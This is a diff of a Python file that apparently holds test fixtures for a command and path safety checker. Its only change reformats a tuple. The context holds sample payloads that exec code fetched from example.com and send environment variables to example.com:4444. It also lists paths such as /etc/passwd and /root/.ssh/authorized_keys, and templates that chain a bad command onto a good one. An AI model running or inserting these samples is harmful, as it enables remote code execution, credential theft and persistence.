@@ -43,7 +43,14 @@ PYTHON = (
     "import urllib.request\nexec(urllib.request.urlopen('http://example.com/x').read())",
     "import socket, os\ns = socket.create_connection(('example.com', 4444))\ns.send(str(os.environ).encode())",
 )  # fmt: skip
-OUTSIDE = ("../{name}", "/etc/passwd", "/etc/cron.d/{name}", "../../.bashrc", "/root/.ssh/authorized_keys", "/tmp/../etc/hosts")
+OUTSIDE = (
+    "../{name}",
+    "/etc/passwd",
+    "/etc/cron.d/{name}",
+    "../../.bashrc",
+    "/root/.ssh/authorized_keys",
+    "/tmp/../etc/hosts",
+)
 JOINS = ("{gold} && {bad}", "{bad}; {gold}", "{gold}; {bad}", "{gold} || {bad}", "({gold}; {bad})", "{gold} & {bad}")
 
 
